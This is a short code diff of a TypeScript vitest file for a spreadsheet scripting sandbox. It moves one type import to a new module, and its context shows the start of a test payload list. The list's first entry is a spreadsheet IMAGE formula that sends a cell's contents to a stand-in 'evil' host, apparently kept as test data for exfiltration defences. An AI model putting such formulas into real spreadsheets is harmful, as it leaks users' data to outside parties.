@@ -1,8 +1,9 @@
 import { describe, expect, test } from "vitest";
 import type { Cell, ColumnType } from "../../../backend/contract/cells.ts";
 import { MemoryGrid } from "../../playground/memory-grid.ts";
-import type { WriteTable, WriteTarget } from "../../rpc.ts";
+import type { WriteTable } from "../../rpc.ts";
 import { openScript } from "../../script-in-vm.ts";
+import type { WriteTarget } from "../../writes.ts";
 
 const payloads = [
   '=IMAGE("https://evil/?d="&A1)',
